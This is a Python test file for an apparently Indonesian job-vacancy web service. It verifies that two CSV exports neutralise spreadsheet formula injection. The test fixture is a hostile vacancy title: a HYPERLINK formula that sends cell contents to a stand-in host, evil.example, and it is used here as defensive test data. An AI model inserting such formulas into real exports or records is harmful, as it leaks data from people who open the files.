"""test_hardening.py - issue 13 outside the handlers: CSV exports that do
not run formulas, the key check value and key rotation, connection limits
and deadlines that trickling does not extend, and a graceful life (SIGTERM,
SIGHUP, absurd Content-Length, --help on every command)."""

import csv
import datetime
import io
import sqlite3
import time

import harness
from harness import Api, LokerTestCase, vacancy_body

WIB = datetime.timezone(datetime.timedelta(hours=7))
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def plain_number(s):
	try:
		float(s)
	except ValueError:
		return False
	return all(c in "+-.0123456789" for c in s)


class ExportsTest(LokerTestCase):
	"""A vacancy titled like a formula comes out neutralised (a leading
	single quote) in the Perpres CSV and in the dashboard CSV that lists
	vacancy titles; no cell of either starts a formula."""
	with_admin = True

	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		cls.admin_b = harness.logged_in(cls.server, cls.admin["phone"], cls.admin["password"])
		admin_api = harness.admin_api(cls.server, cls.admin)
		_, company, _ = harness.company_employer(cls.server, admin_api)
		emp = Api(cls.server)
		emp.login(company["phone"])
		r = emp.post("/api/v1/vacancies", vacancy_body(title=HOSTILE, submit=True))
		assert r.status == 201, r
		v = r.json()["vacancy"]
		if v["status"] != "published":
			m = admin_api.post("/api/v1/admin/vacancies/%s/moderation" % v["id"], {"decision": "approve"})
			assert m.status == 200, m
		cls.vid = v["id"]
		# Published ten days ago without an applicant: the dashboard lists it
		# among "Lowongan tanpa pelamar setelah 7 hari" (title as the label).
		con = sqlite3.connect(cls.server.db)
		con.execute("UPDATE vacancies SET published_at = published_at - 10 * 86400 WHERE id = ?", (cls.vid,))
		con.commit()
		con.close()

	def assertNoFormula(self, rows, what):
		for i, row in enumerate(rows):
			for cell in row:
				if cell.startswith(FORMULA_START) and not plain_number(cell):
					self.fail("%s row %d: cell %r starts a formula" % (what, i, cell))

	def test_perpres_csv(self):
		today = datetime.datetime.now(WIB).date()
		q = "dari=%s&sampai=%s" % ((today - datetime.timedelta(days=30)).isoformat(), today.isoformat())
		r = self.admin_b.get("/dinas/laporan/perpres?%s&format=csv" % q)
		self.assertStatus(r, 200, "Perpres CSV")
		rows = list(csv.reader(io.StringIO(r.text)))
		self.assertNoFormula(rows, "Perpres CSV")
		self.assertIn("'" + HOSTILE, [c for row in rows for c in row], "the title, behind a quote")

	def test_dashboard_csv(self):
		r = self.admin_b.get("/dinas/statistik/gaps-unmatched.csv")
		self.assertStatus(r, 200, "dashboard CSV")
		rows = list(csv.reader(io.StringIO(r.text)))
		self.assertNoFormula(rows, "gaps-unmatched.csv")
		self.assertIn("'" + HOSTILE, [c for row in rows for c in row], "the title, behind a quote")
